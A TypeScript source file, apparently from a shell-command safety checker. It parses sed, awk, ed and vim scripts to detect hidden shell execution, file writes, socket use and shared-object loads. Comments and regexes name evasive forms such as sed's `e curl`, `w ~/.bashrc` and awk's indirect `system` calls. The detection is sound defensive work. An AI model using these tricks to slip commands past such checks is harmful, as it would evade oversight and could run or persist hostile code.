// Programs that read commands in their own small language and run shell text from them: sed, awk, ed, ex/vim, pagers, man.
import { DYN, type Word } from '../../types.js';
import { has, parse } from '../argv.js';
import { programRun } from '../build.js';
import type { Answer, Call, ProgramEntry, Run } from '../types.js';
import { pagerStartCommand } from '../variables.js';
import { attached, computedWhole, isStdinPath, literal, longSpelt, pieceShape, value } from '../words.js';
import { POSIX_SHELLS } from './shells.js';

type Uses = NonNullable<Answer['uses']>;

/**
 * A file of commands the line itself wrote (`awk -f x.awk`, `sed -f x.sed`, `vim -S x.vim`): its text is read as the
 * same text given on the line would be, its commands run. Files it names are uses no file run can carry: cannot-vouch.
 * A file the line did not write is out of scope, as a script file is.
 */
function writtenCommands(file: Word, via: string, read: (text: Word) => { runs: Run[]; uses: Uses }): Run {
  return {
    kind: 'project',
    file,
    files: /$^/,
    read: (text, word, name) => {
      const r = read({ ...word, values: [text] });
      const named = r.uses.filter((u) => u.role !== 'text').flatMap((u) => u.values ?? [value(u.word) ?? u.word.text]);
      if (named.length === 0) return r.runs;
      return [...r.runs, { kind: 'opaque', rule: 'dynamic-script', word, why: `${via} ${name}, which the line wrote, names files its commands read or write (${named.slice(0, 3).join(', ')})` }];
    },
    word: file,
    via,
  };
}

// ── sed ────────────────────────────────────────────────────────────────────────────────────────────────

/** Skips a sed address (`12`, `$`, `/re/I`, `\cREc`, `first~step`) at `i`; returns the index after it. */
function sedAddress(t: string, i: number): number {
  const c = t[i];
  if (c === undefined) return i;
  // A computed piece (NUL, see pieceShape) stands here as a line number (`sed -n "${n}p"`).
  if (/[\d\0]/.test(c)) {
    while (/[\d~\0]/.test(t[i] ?? '')) i++;
    return i;
  }
  if (c === '$') return i + 1;
  if (c === '/' || c === '\\') {
    const delim = c === '\\' ? t[i + 1] : '/';
    let j = c === '\\' ? i + 2 : i + 1;
    while (j < t.length && t[j] !== delim) j += t[j] === '\\' ? 2 : 1;
    j++;
    while (/[IM]/.test(t[j] ?? '')) j++;
    return j;
  }
  return i;
}

/**
 * Reads a sed script as GNU sed does: `e` runs a command (its own text, or the pattern space), the `e` flag of `s`
 * runs the pattern space, `r`/`R` read a file, `w`/`W` and the `w` flag write one.
 */
export function sedScript(script: Word, via: string): { runs: Run[]; uses: Uses; stdout?: boolean } {
  const runs: Run[] = [];
  const uses: Uses = [];
  const t = value(script);
  // `stdout`: what it reads may reach its stdout even under -i (a `w /dev/stdout`, an exit status `q5` picks, a
  // command this reading does not follow); under -i every other output goes back into the file.
  if (t === undefined) return { runs, uses, stdout: true };
  const computed = (why: string) => runs.push({ kind: 'opaque', rule: 'dynamic-script', word: script, why });
  let stdout = false;
  let i = 0;
  const toEol = (from: number) => {
    const nl = t.indexOf('\n', from);
    return nl < 0 ? t.length : nl;
  };
  while (i < t.length) {
    while (i < t.length && /[\s;}]/.test(t[i]!)) i++;
    if (i >= t.length) break;
    if (t[i] === '#') {
      i = toEol(i);
      continue;
    }
    const from = i;
    i = sedAddress(t, i);
    if (t[i] === ',') {
      i++;
      if (t[i] === '+' || t[i] === '~') i++;
      i = sedAddress(t, i);
    }
    while (i < t.length && /[\s!]/.test(t[i]!)) i++;
    const cmd = t[i];
    // A computed piece read as an address with no command after it (`s/a/b/;$x`) stands where the command does.
    if ((cmd === undefined || /[;\n}#]/.test(cmd)) && t.slice(from, i).includes('\0')) computed(`${via}: a computed piece of the script stands where sed reads a command`);
    if (cmd === undefined) break;
    i++;
    switch (cmd) {
      case '{':
        break;
      case 'e': {
        const end = toEol(i);
        const text = t.slice(i, end).trim();
        if (text === '') computed(`${via}: the e command runs the pattern space as a shell command`);
        else runs.push({ kind: 'text', dialect: 'bash', text, word: script, via: `${via} e` });
        i = end;
        break;
      }
      case 'r':
      case 'R':
      case 'w':
      case 'W': {
        const end = toEol(i);
        const file = t.slice(i, end).trim();
        if (file !== '' && !/^\/dev\/std(out|err)$/.test(file)) uses.push({ word: script, role: cmd === 'r' || cmd === 'R' ? 'read' : 'write', values: [file] });
        else if (cmd === 'w' || cmd === 'W') stdout = true;
        i = end;
        break;
      }
      case 'a':
      case 'i':
      case 'c':
        i = toEol(i);
        // GNU one-liner form `a\` continues on the next line.
        while (t[i - 1] === '\\' && i < t.length) i = toEol(i + 1);
        break;
      case ':':
      case 'b':
      case 't':
      case 'T': {
        const semi = t.slice(i).search(/[;\n]/);
        i = semi < 0 ? t.length : i + semi;
        break;
      }
      case 's':
      case 'y': {
        const delim = t[i];
        if (delim === undefined || delim === '\n' || delim === '\\') {
          computed(`${via}: a ${cmd} command it cannot read`);
          return { runs, uses, stdout: true };
        }
        let parts = 0;
        i++;
        while (i < t.length && parts < 2) {
          if (t[i] === '\\') i += 2;
          else if (t[i] === delim) {
            parts++;
            i++;
          } else i++;
        }
        if (cmd === 's') {
          while (i < t.length && /[gpiImMe0-9\0]/.test(t[i]!)) {
            if (t[i] === 'e') computed(`${via}: the e flag of s runs the pattern space as a shell command`);
            // A computed piece among the flags (`s/a/b/$x`) may be `e`, or `w FILE`.
            if (t[i] === '\0') computed(`${via}: a computed piece stands among the flags of s (it may be e, or w FILE)`);
            i++;
          }
          if (t[i] === 'w') {
            const end = toEol(i + 1);
            const file = t.slice(i + 1, end).trim();
            if (file !== '' && !/^\/dev\/std(out|err)$/.test(file)) uses.push({ word: script, role: 'write', values: [file] });
            else stdout = true;
            i = end;
          }
        }
        break;
      }
      case 'q':
      case 'Q':
      case 'l':
      case 'L':
        if ((cmd === 'q' || cmd === 'Q') && /^ *\d/.test(t.slice(i))) stdout = true;
        while (/[\d ]/.test(t[i] ?? '')) i++;
        break;
      case 'v':
      case 'z':
      case 'F':
      case '=':
      case 'd':
      case 'D':
      case 'g':
      case 'G':
      case 'h':
      case 'H':
      case 'n':
      case 'N':
      case 'p':
      case 'P':
      case 'x':
        if (cmd === 'v') while (/[\d.]/.test(t[i] ?? '')) i++;
        break;
      default:
        // A command this reading does not know: if an `e` could be hiding in the rest, fail closed. A computed piece
        // where a command or a flag of s stands (`s/a/b/$x`) may be `e` or `w ~/.bashrc`.
        if (cmd === '\0') computed(`${via}: a computed piece of the script stands where sed reads a command or a flag`);
        else if (/e/.test(t.slice(i - 1))) computed(`${via}: a sed script this reading cannot follow (${JSON.stringify(cmd)})`);
        return { runs, uses, stdout: true };
    }
  }
  return { runs, uses, stdout };
}

function sed(call: Call): Partial<Answer> {
  const p = parse(call.args, {
    order: 'gnu',
    flags: 'nrEsuzb',
    valued: 'efl',
    optional: 'i',
    long: ['quiet', 'silent', 'debug', 'posix', 'regexp-extended', 'separate', 'sandbox', 'unbuffered', 'null-data', 'zero-terminated', 'follow-symlinks', 'binary', 'help', 'version'],
    longValued: ['expression', 'file', 'line-length'],
    longOptional: ['in-place'],
  });
  if (has(p, 'help', 'version')) return {};
  const runs: Run[] = [];
  const uses: Uses = [];
  const scripts = p.options.filter((o) => (o.name === 'e' || o.name === 'expression') && o.value).map((o) => o.value!);
  const files = p.options.filter((o) => (o.name === 'f' || o.name === 'file') && o.value);
  for (const f of files) {
    // `-f /dev/stdin` (or `-f -`): the script is its input.
    if (isStdinPath(value(f.value))) {
      if (call.stdin?.kind === 'static') scripts.push(attached(call.stdin.word, call.stdin.text));
      else if (call.stdin?.kind === 'stream') runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: f.value!, why: `${call.name} reads its script from ${call.stdin.why}` });
    } else {
      uses.push({ word: f.value!, role: 'read' });
      if (!has(p, 'sandbox')) runs.push(writtenCommands(f.value!, `${call.name} -f`, (w) => sedScript(w, call.name)));
    }
  }
  let operands = p.operands.map((o) => o.word);
  if (scripts.length === 0 && files.length === 0 && operands[0]) {
    scripts.push(operands[0]);
    operands = operands.slice(1);
  }
  const sandbox = has(p, 'sandbox');
  // Whether what it reads may reach its stdout: under -i only through the script (or --debug, which prints the
  // pattern space); a script file it reads is not followed.
  let prints = files.length > 0 || has(p, 'debug') || p.options.some((o) => o.unknown);
  for (const s of scripts) {
    uses.push({ word: s, role: 'text' });
    // `sed "$x"`, `sed "$(cat f)"`: a whole script computed may be `e curl …` (a piece computed inside one is not).
    if (computedWhole(s)) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: s, why: `${call.name}: the whole script is computed (${s.text}), and sed's e command runs commands` });
    if (s.values === null) {
      prints = true;
      // A piece computed inside keeps the form written: where it stands is read with it as NUL (see pieceShape).
      // An option's attached value (`-e"s/x/$y/"`, `-ne…`, `--expression=…`) keeps the option's text in its word.
      const shape = computedWhole(s) ? undefined : pieceShape(s)?.replace(/^(?:-[A-Za-z]*e|--[a-z-]*=)/, '');
      if (shape === undefined) continue;
      const read = sedScript({ ...s, values: [shape] }, call.name);
      const pieced = (v: string) => v.includes('\0');
      if (!sandbox) for (const r of read.runs) runs.push(r.kind === 'text' && pieced(r.text) ? { kind: 'opaque', rule: 'dynamic-script', word: s, why: `${call.name}: the e command runs text with a computed piece (${s.text})` } : r);
      for (const u of read.uses) uses.push(u.values?.some(pieced) ? { word: s, role: u.role } : u);
      continue;
    }
    const read = sedScript(s, call.name);
    if (!sandbox) runs.push(...read.runs);
    uses.push(...read.uses);
    if (read.stdout || read.runs.length > 0) prints = true;
  }
  const inPlace = has(p, 'i', 'in-place');
  for (const w of operands) uses.push({ word: w, role: inPlace ? 'write' : 'read' });
  // In place, a static script's output goes back into each file: it edits a secret without printing it (`sed -i
  // 's/^PORT=.*/PORT=3001/' .env`), a write as `echo PORT=3001 >> .env` is.
  if (inPlace && prints) for (const w of operands) uses.push({ word: w, role: 'read' });
  // A script the line shows whole says every file it writes (w, W, s///w, -i); one read from a file does not.
  const shown = files.length === 0 && !p.options.some((o) => o.unknown) && scripts.every((s) => s.values !== null);
  return { runs, uses, ...(shown ? { leavesRead: true as const } : {}) };
}

// ── awk ────────────────────────────────────────────────────────────────────────────────────────────────

/** A command whose program is a POSIX-like shell (`sh`, `/bin/bash -s`). */
function isShell(command: string): boolean {
  const program = command.trim().split(/\s+/)[0] ?? '';
  return POSIX_SHELLS.includes(program.slice(program.lastIndexOf('/') + 1));
}

const AWK_ESCAPES: Record<string, string> = { n: '\n', t: '\t', r: '\r', a: '\x07', b: '\b', f: '\f', v: '\v' };

/** An awk string literal's text: `\n`-style escapes, octal `\040` and gawk's and mawk's hex `\x20`. */
function awkUnescape(s: string): string {
  return s.replace(/\\(?:([0-7]{1,3})|x([0-9a-fA-F]{1,2})|(.))/gs, (_m, oct: string | undefined, hex: string | undefined, c: string | undefined) =>
    oct !== undefined ? String.fromCharCode(Number.parseInt(oct, 8)) : hex !== undefined ? String.fromCharCode(Number.parseInt(hex, 16)) : (AWK_ESCAPES[c!] ?? c!),
  );
}

/** awk programs that start commands: system(), `cmd | getline`, `print | cmd`, `|&` coprocesses. */
export function awkProgram(program: Word, via: string): Run[] {
  const text = value(program);
  // gawk's indirect call (`f = "system"; @f("curl x")`) runs whatever function a string names.
  const STARTS = /system\s*\(|\|\s*getline|\|&|print[f]?[^;}]*\||@[A-Za-z_]\w*\s*\(/g;
  if (text === undefined) {
    // A program computed whole, or one that starts commands with a piece computed (`system("$(…) x")`).
    const starts = program.values === null && new RegExp(STARTS.source).test(program.text);
    return computedWhole(program) || starts ? [{ kind: 'opaque', rule: 'dynamic-script', word: program, why: `${via}: ${starts ? 'the program starts commands built from text computed on the line' : `the whole program is computed (${program.text})`}, and awk's system() runs commands` }] : [];
  }
  const uses = (text.match(STARTS) ?? []).length;
  if (uses === 0) return [];
  const runs: Run[] = [];
  const literal = '"((?:[^"\\\\]|\\\\.)*)"';
  const unquote = awkUnescape;
  let found = 0;
  for (const m of text.matchAll(new RegExp(`system\\s*\\(\\s*${literal}\\s*\\)`, 'g'))) {
    found++;
    runs.push({ kind: 'text', dialect: 'bash', text: unquote(m[1]!), word: program, via: `${via} system()` });
  }
  for (const m of text.matchAll(new RegExp(`${literal}\\s*\\|\\s*getline`, 'g'))) {
    found++;
    runs.push({ kind: 'text', dialect: 'bash', text: unquote(m[1]!), word: program, via: `${via} | getline` });
  }
  for (const m of text.matchAll(new RegExp(`\\|&?\\s*${literal}`, 'g'))) {
    found++;
    const command = unquote(m[1]!);
    // Printing into a shell hands it the printed text as its program.
    if (isShell(command) && !/\s-c\b/.test(command)) runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: program, why: `${via} prints text into a shell (${command.trim()})` });
    else if (!/^\/inet/.test(command)) runs.push({ kind: 'text', dialect: 'bash', text: command, word: program, via: `${via} pipe` });
  }
  if (found < uses) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: program, why: `${via}: the program starts a command built at run time` });
  return runs;
}

/** What an awk program does with files of its own, by name (a DYN marker where a part of a name is computed). */
export interface AwkFiles {
  /** `print > "f"`, `printf … >> "f"`. */
  writes: string[];
  /** `getline < "f"`, `getline line < "f"`. */
  reads: string[];
  /** `@include "f"`: awk code read from a file. */
  includes: string[];
  /** `@load "x"`: a shared object loaded into awk. */
  loads: string[];
}

/** Files a print may name that are no file: the standard streams and descriptors. */
const AWK_STREAMS = /^(-|\/dev\/(stdout|stderr|stdin|fd\/\d+))$/;
/** How many names one target may expand to before a variable's part is taken for any text. */
const AWK_MAX_NAMES = 16;

/**
 * The files an awk program names for its own I/O: `print > "f"` and `print >> "f"` (printf too) write them, `getline
 * < "f"` reads them. A target is a concatenation of strings and variables (`print > dir "/out"`, `> ("a" i)`): a
 * variable stands for each string the program or `vars` (`-v`, command-line assignments) gives it, and whatever
 * the program cannot name (a field, a call, a variable given anything else) for any text, so `ENVIRON["HOME"]
 * "/.bashrc"` still names a `.bashrc`. Assignments are taken wherever they stand, as every path may run them.
 */
export function awkFiles(text: string, vars: ReadonlyMap<string, string[]> = new Map()): AwkFiles {
  const out: AwkFiles = { writes: [], reads: [], includes: [], loads: [] };
  const assigned = new Map<string, string[] | null>();
  for (const [k, v] of vars) assigned.set(k, [...v]);
  const targets: { at: number; into: string[] }[] = [];
  const rhs: { name: string; at: number }[] = [];
  let depth = 0;
  /** The paren depth a print statement began at, while in one. */
  let printAt = -1;
  /** Whether a `/` here begins a regex (not a division). */
  let regexOk = true;
  let i = 0;
  const n = text.length;
  const skipString = (k: number): number => {
    for (k++; k < n && text[k] !== '"'; k++) if (text[k] === '\\') k++;
    return k + 1;
  };
  while (i < n) {
    const c = text[i]!;
    if (c === '"') {
      i = skipString(i);
      regexOk = false;
      continue;
    }
    if (c === '#') {
      while (i < n && text[i] !== '\n') i++;
      continue;
    }
    if (c === '\\' && text[i + 1] === '\n') {
      i += 2;
      continue;
    }
    if (c === '/' && regexOk) {
      for (i++; i < n && text[i] !== '/' && text[i] !== '\n'; i++) if (text[i] === '\\') i++;
      i++;
      regexOk = false;
      continue;
    }
    if (c === '@') {
      const m = /^@(include|load)\s*"((?:[^"\\\n]|\\.)*)"/.exec(text.slice(i));
      if (m) (m[1] === 'include' ? out.includes : out.loads).push(awkUnescape(m[2]!));
      i += m ? m[0].length : 1;
      continue;
    }
    const word = /^[A-Za-z_]\w*/.exec(text.slice(i, i + 64))?.[0];
    if (word !== undefined) {
      i += word.length;
      regexOk = word === 'print' || word === 'printf' || word === 'return' || word === 'in' || word === 'getline';
      if (word === 'print' || word === 'printf') printAt = depth;
      else if (word === 'getline') {
        // `getline [lvalue] < file`.
        const m = /^[ \t]*(?:\$?[A-Za-z_]\w*(?:\[[^\]\n]*\])?|\$\d+)?[ \t]*<(?!=)/.exec(text.slice(i));
        if (m) {
          i += m[0].length;
          targets.push({ at: i, into: out.reads });
        }
      } else if (word === 'ARGV') {
        // `ARGV[1] = "f"`: awk reads the file an element of ARGV names as one of its operands (`ARGC = 2`).
        const m = /^[ \t]*\[[^\]\n]*\][ \t]*=(?!=)/.exec(text.slice(i));
        if (m) {
          i += m[0].length;
          targets.push({ at: i, into: out.reads });
        }
      } else {
        const m = /^[ \t]*=(?!=)/.exec(text.slice(i));
        if (m) rhs.push({ name: word, at: i + m[0].length });
      }
      continue;
    }
    if (c === '(' || c === '[') depth++;
    else if (c === ')' || c === ']') depth--;
    if (c === '>' && printAt === depth) {
      i += text[i + 1] === '>' ? 2 : 1;
      targets.push({ at: i, into: out.writes });
      printAt = -1;
      regexOk = true;
      continue;
    }
    if (c === ';' || c === '{' || c === '}' || c === '\n' || c === '|') printAt = -1;
    // A `/` after a value divides; after an operator, a brace or a line's end it begins a regex.
    if (c !== ' ' && c !== '\t') regexOk = !/[)\]$.0-9]/.test(c);
    i++;
  }
  for (const r of rhs) {
    const t = awkTarget(text, r.at, new Map());
    const prev = assigned.get(r.name);
    if (t.known && prev !== null) assigned.set(r.name, [...(prev ?? []), ...t.names]);
    else assigned.set(r.name, null);
  }
  for (const t of targets) for (const name of awkTarget(text, t.at, assigned).names) if (!AWK_STREAMS.test(name)) t.into.push(name);
  return out;
}

/**
 * The names an awk expression at `at` may evaluate to, read as a concatenation of strings, variables and
 * parenthesised concatenations; `known` is false when some part is not a string the program gives.
 */
function awkTarget(text: string, at: number, assigned: ReadonlyMap<string, string[] | null>): { names: string[]; known: boolean; end: number } {
  let i = at;
  let known = true;
  /** Each alternative so far, as a list of names; the first part alone is kept too (`> "a" "b"` may be "a"). */
  let names: string[] = [''];
  const alone: string[] = [];
  let parts = 0;
  const add = (options: string[]): void => {
    const next = names.flatMap((a) => options.map((b) => a + b));
    names = next.length > AWK_MAX_NAMES ? names.map((a) => a + DYN) : next;
    parts++;
    if (parts === 1) alone.push(...names);
  };
  for (;;) {
    while (i < text.length && (text[i] === ' ' || text[i] === '\t')) i++;
    const c = text[i];
    if (c === '"') {
      const m = /^"((?:[^"\\\n]|\\.)*)"/.exec(text.slice(i));
      if (!m) break;
      add([awkUnescape(m[1]!)]);
      i += m[0].length;
      continue;
    }
    if (c === '(') {
      // A parenthesised concatenation; anything else inside it is any text.
      let d = 0;
      let k = i;
      for (; k < text.length; k++) {
        if (text[k] === '"') {
          for (k++; k < text.length && text[k] !== '"'; k++) if (text[k] === '\\') k++;
        } else if (text[k] === '(') d++;
        else if (text[k] === ')' && --d === 0) break;
      }
      const inner = awkTarget(text.slice(i + 1, k), 0, assigned);
      const whole = /^\s*$/.test(text.slice(i + 1 + inner.end, k));
      add(whole ? inner.names : [DYN]);
      if (!whole || !inner.known) known = false;
      i = k + 1;
      continue;
    }
    // The user's home, as awk finds it in the environment.
    const home = /^ENVIRON\s*\[\s*"HOME"\s*\]/.exec(text.slice(i))?.[0];
    if (home !== undefined) {
      add([parts === 0 ? '~' : DYN]);
      i += home.length;
      continue;
    }
    const id = /^\$?[A-Za-z_]\w*|^\$\d+|^\$\(/.exec(text.slice(i))?.[0];
    if (id === undefined) break;
    i += id.length;
    let values = id.startsWith('$') ? null : (assigned.get(id) ?? null);
    // An array element or a call: any text.
    if (text[i] === '[' || text[i] === '(' || id === '$(') {
      const open = id === '$(' ? '(' : text[i]!;
      const close = open === '[' ? ']' : ')';
      let d = id === '$(' ? 1 : 0;
      if (id !== '$(') i--;
      for (i++; i < text.length; i++) {
        if (text[i] === open) d++;
        else if (text[i] === close && --d <= 0) break;
      }
      i++;
      values = null;
    }
    if (values === null || values.length === 0) known = false;
    add(values === null || values.length === 0 ? [DYN] : values);
  }
  return { names: parts === 0 ? [] : [...new Set([...alone, ...names])], known: known && parts > 0, end: i - at };
}

/** An awk program's runs and the files it names, for a program read from a file the line wrote. */
function awkRead(program: Word, via: string, vars: ReadonlyMap<string, string[]>): { runs: Run[]; uses: Uses } {
  const runs = awkProgram(program, via);
  const text = value(program) ?? '';
  const files = awkFiles(text, vars);
  const uses: Uses = [...files.writes, ...files.reads, ...files.includes].map((f) => ({ word: program, role: 'unknown' as const, values: [f] }));
  if (files.loads.length > 0 || /\/inet/.test(text)) runs.push({ kind: 'opaque', rule: 'dynamic-code', word: program, why: `${via}: the program loads a shared object or opens a socket` });
  return { runs, uses };
}

const AWK_OPTIONS = {
  order: 'gnu',
  flags: 'bcCghknNOMPrSstVY',
  valued: 'FfveEilWZ',
  optional: 'dDLop',
  long: ['characters-as-bytes', 'traditional', 'copyright', 'help', 'bignum', 'use-lc-numeric', 'non-decimal-data', 'optimize', 'posix', 're-interval', 'no-optimize', 'sandbox', 'lint-old', 'version', 'csv', 'gen-pot', 'parsedebug'],
  longValued: ['file', 'field-separator', 'assign', 'exec', 'source', 'include', 'load', 'locale'],
  longOptional: ['dump-variables', 'debug', 'lint', 'pretty-print', 'profile'],
} as const;

/**
 * `-W NAME[=VALUE][,NAME…]`: POSIX's door to an awk's own options, each named in full or by a prefix (mawk reads
 * `-W e FILE` and `-Wexec FILE` as its `-W exec FILE`, gawk `-W file=FILE` as `--file=FILE`). Each part that names
 * one of gawk's long options (a prefix of `exec` is mawk's exec whatever else it could begin) is that long option,
 * its value attached or the next word; any other part (mawk's dump, interactive, sprintf=N) stays a `-W` value.
 */
function awkLongForms(args: readonly Word[]): Word[] {
  const names = [...AWK_OPTIONS.long, ...AWK_OPTIONS.longValued, ...AWK_OPTIONS.longOptional];
  const out: Word[] = [];
  for (let i = 0; i < args.length; i++) {
    const w = args[i]!;
    const v = value(w);
    if (v === '--') {
      out.push(...args.slice(i));
      break;
    }
    const joined = v !== undefined && v.length > 2 && v.startsWith('-W');
    if (v !== '-W' && !joined) {
      out.push(w);
      continue;
    }
    const spec = joined ? v.slice(2) : args[i + 1] === undefined ? undefined : value(args[i + 1]!);
    if (spec === undefined) {
      out.push(w);
      continue;
    }
    const at = joined ? w : args[++i]!;
    for (const part of spec.split(',')) {
      const eq = part.indexOf('=');
      const n = (eq < 0 ? part : part.slice(0, eq)).toLowerCase();
      const full = n === '' ? undefined : names.includes(n as never) ? n : 'exec'.startsWith(n) ? 'exec' : names.filter((x) => x.startsWith(n)).length === 1 ? names.find((x) => x.startsWith(n)) : undefined;
      const text = full === undefined ? `-W${part}` : `--${full}${eq < 0 ? '' : part.slice(eq)}`;
      out.push({ ...at, text, values: [text] });
    }
  }
  return out;
}

function awk(call: Call): Partial<Answer> {
  // gawk's getopt: `d`, `D`, `L`, `o` and `p` take a value only when it is attached (`-p/tmp/prof`).
  const p = parse(awkLongForms(call.args), AWK_OPTIONS);
  if (has(p, 'help', 'version', 'V')) return {};
  const runs: Run[] = [];
  const uses: Uses = [];
  const fromFile = p.options.some((o) => /^(f|file|E|exec)$/.test(o.name));
  // `-v name=value` and `name=value` operands give a variable its value (awk reads its escapes), for the file names below.
  const vars = new Map<string, string[]>();
  const assign = (text: string | undefined): boolean => {
    const m = /^([A-Za-z_]\w*)=(.*)$/s.exec(text ?? '');
    if (m) vars.set(m[1]!, [...(vars.get(m[1]!) ?? []), awkUnescape(m[2]!)]);
    return m !== null;
  };
  let inPlace = false;
  for (const o of p.options) {
    const v = o.value ? value(o.value) : undefined;
    if (/^(f|file|E|exec|i|include)$/.test(o.name) && o.value) {
      uses.push({ word: o.value, role: 'read' });
      if (!isStdinPath(v)) runs.push(writtenCommands(o.value, `${call.name} -${o.name}`, (w) => awkRead(w, call.name, vars)));
    }
    if (/^(i|include)$/.test(o.name) && /(^|\/)inplace(\.awk)?$/.test(v ?? '')) inPlace = true;
    if ((o.name === 'l' || o.name === 'load') && o.value) runs.push({ kind: 'opaque', rule: 'dynamic-code', word: o.value, why: `${call.name} -l loads a shared object` });
    // The profile, the pretty-printed program and the variables' dump are written to the file named.
    if (/^(d|o|p|dump-variables|pretty-print|profile)$/.test(o.name) && o.value) uses.push({ word: o.value, role: 'write' });
    if ((o.name === 'D' || o.name === 'debug') && o.value) uses.push({ word: o.value, role: 'read' });
    if (o.name === 'v' || o.name === 'assign') assign(v);
  }
  let operands = p.operands.map((o) => o.word);
  for (const w of operands.slice(1)) assign(value(w));
  const programs = p.options.filter((o) => (o.name === 'e' || o.name === 'source') && o.value).map((o) => o.value!);
  // `-f /dev/stdin` (or `-f -`) reads the program from stdin: static text is the program, a stream is not known.
  // gawk's `-i /dev/stdin` includes it as a library beside the program the line gives.
  const stdinCode: Word[] = [];
  if (p.options.some((o) => /^(f|file|E|exec|i|include)$/.test(o.name) && isStdinPath(value(o.value)))) {
    if (call.stdin?.kind === 'static') stdinCode.push(call.stdin.word.values?.length === 1 && call.stdin.word.values[0] === call.stdin.text ? call.stdin.word : { ...call.stdin.word, text: call.stdin.text, values: [call.stdin.text] });
    else if (call.stdin?.kind === 'stream') runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: call.args[0]!, why: `${call.name} reads its program from ${call.stdin.why}` });
  }
  if (!fromFile && programs.length === 0 && operands[0]) {
    uses.push({ word: operands[0], role: 'text' });
    programs.push(operands[0]);
    operands = operands.slice(1);
  }
  programs.push(...stdinCode);
  for (const program of programs) {
    runs.push(...awkProgram(program, call.name));
    const text = value(program);
    if (text === undefined) continue;
    const files = awkFiles(text, vars);
    for (const f of files.writes) uses.push({ word: program, role: 'write', values: [f] });
    for (const f of [...files.reads, ...files.includes]) uses.push({ word: program, role: 'read', values: [f] });
    for (const f of files.loads) runs.push({ kind: 'opaque', rule: 'dynamic-code', word: program, why: `${call.name} @load "${f}" loads a shared object` });
    if (files.includes.some((f) => /(^|\/)inplace(\.awk)?$/.test(f))) inPlace = true;
  }
  // With gawk's inplace extension every file operand is rewritten with what the program prints.
  for (const w of operands) if (!/^[A-Za-z_]\w*=/.test(value(w) ?? '')) uses.push({ word: w, role: 'read' }, ...(inPlace ? [{ word: w, role: 'write' as const }] : []));
  // `awk '{print $1}'` reading stdin prints one field of each line: some of its characters, none added, so a count
  // stays a number (`wc -l | awk '{print $1}'`).
  const oneField = programs.length === 1 && operands.length === 0 && p.options.every((o) => o.name === 'F' || o.name === 'field-separator') && /^\s*\{\s*print\s+\$[1-9]\d*\s*;?\s*\}\s*$/.test(value(programs[0]!) ?? '');
  // A count or a sum printed at the end (`awk '{s+=$1} END {print s}' f`, `awk 'END {print NR}'`, `/x/{n++} END{print
  // n}`): a number as awk formats it, whatever the input (with no -v or operand setting OFMT or CONVFMT).
  // (A count is an integer; a sum may be a fraction, or inf or nan.)
  const sums = programs.length === 1 && p.options.every((o) => o.name === 'F' || o.name === 'field-separator') && operands.every((w) => value(w) !== undefined && !/^[A-Za-z_]\w*=/.test(value(w)!)) ? awkSum(value(programs[0]!)) : undefined;
  // A program the line shows whole says every file it writes (`print > f`, -i inplace); one read from a file, a
  // library it includes or an object it loads may write any.
  const shown = !fromFile && !p.options.some((o) => o.unknown || /^(i|include|l|load)$/.test(o.name)) && programs.every((w) => value(w) !== undefined);
  return { runs, uses, ...(shown ? { leavesRead: true as const } : {}), ...(oneField ? { output: { kind: 'subset' as const } } : sums ? { output: { kind: 'number' as const, ...(sums === 'sum' ? { float: true as const } : {}) } } : {}) };
}

/**
 * `[/RE/] { V += $N }` or `{ V++ }` then `END { print V }`, or only `END { print NR }`: what it prints is a number, a
 * count (`NR`, `V++`) or a sum.
 */
function awkSum(text: string | undefined): 'count' | 'sum' | undefined {
  if (text === undefined) return undefined;
  const end = /^(.*?)\bEND\s*\{\s*print\s+([A-Za-z_]\w*)\s*;?\s*\}\s*$/s.exec(text);
  if (!end) return undefined;
  const [, body, printed] = end;
  if (/^\s*$/.test(body!)) return printed === 'NR' ? 'count' : undefined;
  const m = /^\s*(?:\/(?:[^/\\\n]|\\.)*\/\s*)?\{\s*([A-Za-z_]\w*)\s*(\+=\s*\$(?:[1-9]\d*|NF)|\+\+)\s*;?\s*\}\s*$/.exec(body!);
  if (m === null || /^(?:NR|NF|FS|OFS|ORS|RS|OFMT|CONVFMT|SUBSEP|FILENAME|FNR|RSTART|RLENGTH|ENVIRON|ARGV|ARGC)$/.test(m[1]!)) return undefined;
  if (printed === 'NR') return 'count';
  return m[1] !== printed ? undefined : m[2] === '++' ? 'count' : 'sum';
}

// ── ed, ex, vim ────────────────────────────────────────────────────────────────────────────────────────

/** ed commands, one a line: `!cmd`, `r !cmd`, `w !cmd`, `e !cmd` run shell text; `r FILE` reads, `w FILE` writes. */
export function edCommands(text: string, word: Word, via: string): { runs: Run[]; uses: Uses; writesBack: boolean } {
  const runs: Run[] = [];
  const uses: Uses = [];
  let writesBack = false;
  for (const raw of text.split('\n')) {
    // An address (`1,$`, `'a`, `/re/`), then the command letter.
    const m = /^\s*(?:[\d.,;$+-]|'[a-z]|\/(?:[^/\\]|\\.)*\/|\?(?:[^?\\]|\\.)*\?)*\s*([!A-Za-z=])(.*)$/.exec(raw);
    if (!m) continue;
    const cmd = m[1]!;
    const rest = m[2]!;
    if (cmd === '!') runs.push({ kind: 'text', dialect: 'bash', text: rest, word, via: `${via} !` });
    else if (/^[rwWeEf]$/.test(cmd) && /^\s*!/.test(rest)) runs.push({ kind: 'text', dialect: 'bash', text: rest.replace(/^\s*!/, ''), word, via: `${via} ${cmd} !` });
    else if ((cmd === 'r' || cmd === 'e' || cmd === 'E') && rest.trim() !== '') uses.push({ word, role: 'read', values: [rest.trim()] });
    else if ((cmd === 'w' || cmd === 'W') && /^q?\s+\S/.test(rest)) uses.push({ word, role: 'write', values: [rest.replace(/^q?\s+/, '').trim()] });
    else if ((cmd === 'w' || cmd === 'W') && /^q?\s*$/.test(rest)) writesBack = true;
  }
  return { runs, uses, writesBack };
}

/** Vim functions that write, delete, connect, or read the environment or files: code vouch does not follow. */
const VIM_EFFECTS = /\b(?:writefile|delete|rename|mkdir|filecopy|ch_open|ch_sendraw|ch_evalraw|sockconnect|serverlist|remote_send|remote_expr|environ|getenv|setenv|readfile|readblob|readdir|readdirex|glob|globpath|expand|swapname|setline|appendbufline|setbufline|chdir|timer_start|funcref|function|call|listener_add|prompt_setcallback|win_execute|assert_\w+)\s*\(/;

/** What ex commands do: the runs they make, the files they name for writing, and whether one writes the file edited back. */
interface ExRead {
  runs: Run[];
  uses: Uses;
  writesBack: boolean;
}

